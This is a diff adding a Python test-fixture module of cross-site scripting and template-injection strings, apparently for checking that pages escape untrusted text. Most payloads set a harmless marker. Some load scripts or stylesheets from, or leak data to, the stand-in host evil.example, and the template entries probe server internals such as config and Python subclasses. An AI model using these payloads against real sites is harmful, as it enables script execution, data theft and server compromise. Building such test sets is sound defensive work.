@@ -1,0 +1,95 @@
+"""Texts that try to run when a page shows them without care: markup, attributes, addresses, Markdown, templates."""
+
+from __future__ import annotations
+
+HIT = "window.hit=1"
+
+MARKUP = (
+    f"<script>{HIT}</script>",
+    f"<ScRiPt>{HIT}</sCrIpT>",
+    f"</script><script>{HIT}</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<script src=data:text/javascript,window.hit=1></script>",
+    f"<img src=x onerror={HIT}>",
+    f'<img src="x" onerror="{HIT}">',
+    f"<img src=x:x onerror\n={HIT}>",
+    f"<svg onload={HIT}>",
+    f"<svg/onload={HIT}>",
+    f"<svg><script>{HIT}</script></svg>",
+    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
+    f"<svg><a xlink:href=javascript:{HIT}><text y=20>go</text></a></svg>",
+    f"<svg><foreignObject><iframe srcdoc='<script>parent.{HIT}</script>'></foreignObject></svg>",
+    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
+    f"<body onload={HIT}>",
+    f"<details open ontoggle={HIT}>",
+    f"<input autofocus onfocus={HIT}>",
+    f"<video><source onerror={HIT}>",
+    f"<audio src=x onerror={HIT}>",
+    f"<marquee onstart={HIT}>",
+    f"<iframe src=javascript:parent.{HIT}>",
+    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
+    f"<object data=javascript:{HIT}>",
+    "<embed src=data:image/svg+xml,%3Csvg%20onload%3Dwindow.hit%3D1%3E>",
+    f"<form action=javascript:{HIT}><button autofocus>x</button></form>",
+    f"<isindex action=javascript:{HIT} type=submit>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<link rel=import href=data:text/html,window.hit=1>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<style>*{background:url(//evil.example/leak)}</style>",
+    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
+    f"<template><script>{HIT}</script></template>",
+    f"<title><img src=x onerror={HIT}></title>",
+    f"<textarea><img src=x onerror={HIT}></textarea>",
+    f"</textarea><img src=x onerror={HIT}>",
+    f"</option></select><img src=x onerror={HIT}>",
+    f"<!--><img src=x onerror={HIT}>-->",
+    f"<![CDATA[<img src=x onerror={HIT}>]]>",
+    f"<hw-annotate url=javascript:{HIT}></hw-annotate>",
+)
+ATTRIBUTES = (
+    f'" onmouseover="{HIT}" x="',
+    f"' autofocus onfocus='{HIT}' x='",
+    f'"><img src=x onerror={HIT}>',
+    f"'><svg onload={HIT}>",
+    f"` onmouseover={HIT} `",
+    f'" style="animation-name:x" onanimationstart="{HIT}',
+    f"&quot; onfocus=&quot;{HIT}",
+    f"&lt;img src=x onerror={HIT}&gt;",
+    f"&#60;script&#62;{HIT}&#60;/script&#62;",
+)
+ADDRESSES = (
+    f"javascript:{HIT}",
+    f"JaVaScRiPt:{HIT}",
+    f"java\tscript:{HIT}",
+    f"\x01javascript:{HIT}".replace("\x01", "\u200b"),
+    "data:text/html,<script>parent.window.hit=1</script>",
+    f"vbscript:{HIT}",
+)
+MARKDOWN = (
+    f"[click](javascript:{HIT})",
+    f"[click](JaVaScRiPt:{HIT})",
+    f"[click](javascript&colon;{HIT})",
+    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
+    f'[click](https://a.example "x" onclick="{HIT}")',
+    f'![x](x"onerror="{HIT})',
+    f"<javascript:{HIT}>",
+    f"[ref]\n\n[ref]: javascript:{HIT}",
+    f"`<img src=x onerror={HIT}>`",
+    f"```html\n<img src=x onerror={HIT}>\n```",
+    f"> <img src=x onerror={HIT}>",
+    f"| a |\n|---|\n| <img src=x onerror={HIT}> |",
+)
+TEMPLATES = (
+    "{{ 7 * 7 }}",
+    "{% for x in (1,2) %}{{ x }}{% endfor %}",
+    "{{ config.items() }}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{{constructor.constructor('window.hit=1')()}}",
+)
+PAYLOADS = MARKUP + ATTRIBUTES + ADDRESSES + MARKDOWN + TEMPLATES
+"""Every one of them, once."""
